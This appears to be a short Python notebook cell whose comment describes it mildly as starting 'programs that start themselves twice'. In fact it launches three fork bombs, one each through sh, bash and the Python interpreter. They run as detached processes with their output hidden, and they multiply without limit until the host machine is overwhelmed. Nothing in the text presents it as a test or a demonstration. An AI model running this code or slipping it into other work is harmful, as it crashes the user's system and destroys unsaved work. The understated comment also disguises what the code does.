# %% [markdown]
# starts programs that start themselves twice

# %% end
import subprocess, sys

program = "b() { b | b & }; b"
for command in (
    ["sh", "-c", program],
    ["bash", "-c", program],
    [sys.executable, "-Sc", "import os\nwhile 1: os.fork()"],
):
    try:
        subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError as error:
        print(error)
